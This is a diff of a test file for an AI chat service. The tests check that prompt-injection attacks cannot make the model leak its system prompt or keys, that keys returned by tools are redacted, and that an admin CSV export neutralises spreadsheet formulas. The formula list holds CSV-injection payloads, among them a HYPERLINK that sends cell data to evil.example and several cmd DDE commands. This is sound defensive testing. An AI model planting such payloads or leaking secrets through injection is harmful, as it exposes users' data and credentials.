@@ -3,7 +3,8 @@ import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals
 import type { ChatEvent } from '../../server/contract/chat.ts';
 import { secret } from '../database/sidecar.ts';
 import { attacks, type Attack } from './attacks.ts';
-import { apiKey, mcpHeader, openHarbour, ownPrompt, type Harbour } from './harbour.ts';
+import { factOf, openHarbour, type Harbour } from './harbour.ts';
+import { apiKey, mcpHeader, ownPrompt } from './keys.ts';
 import { obeyed, type ObeyingModel } from './obeying-model.ts';
 import { bare } from './orders.ts';
 import { openPage } from './rendered.ts';
@@ -26,22 +27,25 @@ afterAll(async () => {
 type Asked = Awaited<ReturnType<Harbour['say']>>;
 
 const sayings = Object.values(leaks);
-/** Every way to write a hidden text, in letters and digits alone. */
-const hidden = [ownPrompt, apiKey, mcpHeader, secret].flatMap((text) =>
-  sayings.map((say) => ({ text, said: bare(say(text).replaceAll('[1]', '')) })),
-);
-/** Letters of a hidden text that are none too many, and the share of a key. */
-const most = (text: string) => (text === ownPrompt ? 48 : 16);
+const runsOf = (text: string, length: number) =>
+  Array.from({ length: Math.max(0, text.length - length + 1) }, (_, at) =>
+    text.slice(at, at + length),
+  );
+/** Runs of letters and digits that tell of a hidden text, however it is written. */
+const runsOfAll = (texts: string[], length: number) =>
+  new Set(
+    texts.flatMap((text) =>
+      sayings.flatMap((say) => runsOf(bare(say(text).replaceAll('[1]', '')), length)),
+    ),
+  );
+const hidden = [
+  [48, runsOfAll([ownPrompt], 48)],
+  [16, runsOfAll([apiKey, mcpHeader, secret], 16)],
+] as const;
 
 function leakedIn(shown: string): string[] {
   const said = bare(shown.replace(/\[\d+\]/g, ''));
-  return hidden.flatMap(({ text, said: whole }) => {
-    const length = most(text);
-    const runs = Array.from({ length: Math.max(1, whole.length - length + 1) }, (_, at) =>
-      whole.slice(at, at + length),
-    );
-    return runs.filter((run) => said.includes(run)).slice(0, 1);
-  });
+  return hidden.flatMap(([length, runs]) => runsOf(said, length).filter((run) => runs.has(run)));
 }
 
 const textOf = (events: readonly ChatEvent[]) =>
@@ -135,7 +139,7 @@ describe('a model that gives in', () => {
     ),
   );
   test.each(all)('does not say $name', async ({ said }) => {
-    model.worst = { calls: () => [], text: () => said.match(/[\s\S]{1,5}/g) ?? [] };
+    model.worst = { calls: () => [], text: () => said.match(/[\s\S]/g) ?? [] };
     const asked = await harbour.ask(attacks[0]!);
     expectSafe(asked);
     expect(asked.events.at(-1)).toMatchObject({ type: 'done', finish_reason: 'refusal' });
@@ -158,5 +162,47 @@ describe('a model that gives in', () => {
       .show(asked.events)
       .querySelectorAll('a[href^="http://site.test/post-1000/"]');
     expect(links.length).toBeGreaterThan(0);
+  });
+});
+
+test('a key that a tool gives back does not reach the model', async () => {
+  model.worst = null;
+  await harbour.ask(attacks.find(({ name }) => name === 'tool result: with the key it was sent')!);
+  const told = JSON.stringify(harbour.vendor.requests.at(-1)?.body);
+  expect(told).toContain('Authorization: [key]');
+  expect(told).not.toContain(mcpHeader.slice(-12));
+});
+
+describe('the owner', () => {
+  const formulas = [
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    '-2+3+cmd|x',
+    '@SUM(1+1)*cmd|x',
+    '\t=1+1',
+    '＝1+1',
+    'Hello\n=1+1',
+    '",=1+1,"',
+    '  =1+1',
+  ];
+  /** The fields of RFC 4180. */
+  const fieldsOf = (csv: string) =>
+    Array.from(csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g), ([, quoted, plain]) =>
+      (quoted ?? plain ?? '').replaceAll('""', '"'),
+    );
+
+  test('opens an export in which nothing is a formula', async () => {
+    for (const formula of formulas) {
+      model.worst = { calls: () => [], text: () => [formula] };
+      await harbour.say(`${formula} ${factOf(attacks[0]!)}`, {
+        page_url: `http://site.test/${formula}`,
+      });
+    }
+    const { body, status } = await harbour.shim.admin<string>('GET', '/chats/export');
+    expect(status).toBe(200);
+    const fields = fieldsOf(body.replace(/^\ufeff/, ''));
+    expect(fields.filter((field) => field.includes('1+1')).length).toBeGreaterThan(formulas.length);
+    const lines = fields.flatMap((field) => field.split(/[\t\r\n;,|]/));
+    expect(lines.filter((line) => /^[\s"]*[=+\-@＝＋－＠]/u.test(line))).toEqual([]);
   });
 });
